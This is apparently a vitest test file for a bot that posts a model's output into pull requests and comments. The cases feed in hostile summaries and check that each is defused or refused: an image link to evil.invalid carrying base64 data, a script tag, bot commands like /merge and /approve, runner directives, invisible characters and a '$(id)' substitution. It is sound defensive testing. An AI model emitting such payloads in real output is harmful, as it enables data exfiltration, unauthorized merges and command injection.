/** What a model says: it is shown to people by a forge that acts on words. */
import { expect } from 'vitest';
import { BOT_LOGIN } from '../bot.ts';
import { FORGED_STATE } from './bodies.ts';
import type { HostileCase, HostileKind } from './case.ts';

/** `shown`: how it reads in the description of the pull request and in the comment. */
const said = (
  name: string,
  summary: string,
  shown: string,
  happens = 'shown as text or code, which does nothing',
): HostileCase => ({
  ...{ name, happens, leaves: { summary } },
  ends: {
    kind: 'defused',
    look: ({ bot, comment }) => {
      const [pull, ...more] = bot.forge.pulls();
      expect(more).toEqual([]);
      expect(pull).toMatchObject({ author: BOT_LOGIN, open: true, pull: { draft: true, base: 'main', merged: false } });
      for (const text of [comment, pull?.body]) expect(text).toContain(shown);
      // Only what the bot itself has to close.
      expect((pull?.body ?? '').match(/^.*\bcloses #\d+.*$/gim)).toEqual(['Closes #1']);
    },
  },
});

export const WORDS: HostileKind = {
  kind: 'model’s words',
  cases: [
    said('mentions', 'Thanks @octo, @everyone and (@octo/team).', '`@octo`'),
    said('words that close other issues', 'Fixes #7, resolves octo/other#8, close: GH-9', '`#7`'),
    said(
      'an image whose address carries data',
      '![x](https://evil.invalid/p.png?q=c2VjcmV0)',
      '`https://evil.invalid/p.png?q=c2VjcmV0`',
    ),
    said(
      'links of every kind',
      '[a](https://evil.invalid) <https://evil.invalid> www.evil.invalid [b][c]\n\n[c]: https://evil.invalid "t"',
      '`https://evil.invalid`',
    ),
    said(
      'HTML',
      '<img src="https://evil.invalid/x"><details><script>alert(1)</script></details><!-- hidden -->',
      '&lt;',
    ),
    said('commands of other bots', '/merge\n/approve\n\nbors r+\n```\n/lgtm\n```', '`/merge`'),
    said('a forged state, and a fence that does not end', `Done.\n${FORGED_STATE}\n\`\`\`\nopen`, 'drydock state:'),
    said(
      'pictures and suggestions that a forge draws',
      '```mermaid\ngraph TD; click A "https://evil.invalid"\n```\n```suggestion\nevil\n```',
      '```\nevil\n```',
    ),
    said('what cannot be seen', `I\u202ea\u200bd\u{e0041}ded it.`, 'Iadded it.'),
    said('thirty thousand characters', 'word '.repeat(6_000), '(It went on.)', 'cut to what a person reads'),
    {
      name: 'the reason why it ended, with line breaks, mentions and a command of the runner',
      happens: 'one line, in which nothing is alive',
      leaves: {
        result: { outcome: 'error', exitCode: 3, message: 'x\n::set-output name=a::b\n# Approved @octo\n/merge <b>' },
      },
      ends: {
        kind: 'defused',
        look: ({ comment }) => expect(comment).toMatch(/^It ended with `error`: x .*`@octo`.*&lt;b>$/m),
      },
    },
    {
      name: 'a million characters, past what work writes',
      happens: 'the result is not used',
      leaves: { summary: 'word '.repeat(200_000) },
      ends: { kind: 'refused', says: /no result that can be used[\s\S]*not as it must be \(summary\)/ },
    },
    {
      name: 'an outcome and a session that are no names',
      happens: 'the result is not used',
      leaves: { result: { outcome: 'completed\n::error::x', session: '$(id)' } },
      ends: { kind: 'refused', says: /no result that can be used[\s\S]*not as it must be \(outcome\)/ },
    },
  ],
};
